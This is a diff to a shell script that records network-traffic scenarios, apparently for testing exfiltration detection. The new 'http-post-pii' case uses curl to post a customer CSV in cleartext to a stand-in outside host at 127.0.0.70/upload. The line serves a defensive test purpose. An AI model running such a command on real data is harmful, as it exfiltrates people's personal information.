@@ -33,7 +33,7 @@ HERE=$(cd "$(dirname "$0")" && pwd)
 REC=$HERE/record
 PGREC=$(cd "$HERE/../replay/record/postgres" && pwd)
 PGBIN=/usr/lib/postgresql/15/bin
-ALL="http-benign http-bulk-read http-export pg-app-benign pg-untrusted nmap-scan dns-benign dns-tunnel upload"
+ALL="http-benign http-bulk-read http-export http-post-pii pg-app-benign pg-untrusted nmap-scan dns-benign dns-tunnel upload"
 
 if [ "${1:-}" = "--list" ]; then
 	echo "$ALL" | tr ' ' '\n'
@@ -192,6 +192,16 @@ if wanted http-export; then
 	capture_begin http-export 262144 tcp port 80
 	get 127.0.0.77 "" /export/customers.csv || echo "curl: $?" >&2
 	capture_end http-export
+fi
+
+# http-post-pii: the data host posts the same customer list to a host on
+# the Internet (127.0.0.70) in cleartext.
+if wanted http-post-pii; then
+	capture_begin http-post-pii 262144 tcp port 80
+	timeout 30 curl -s -o /dev/null --max-time 10 --interface 127.0.0.1 \
+		--data-binary @"$T/nginx/www/export/customers.csv" \
+		http://127.0.0.70/upload
+	capture_end http-post-pii
 fi
 
 # upload: 150 MB from the data host to a host on the Internet
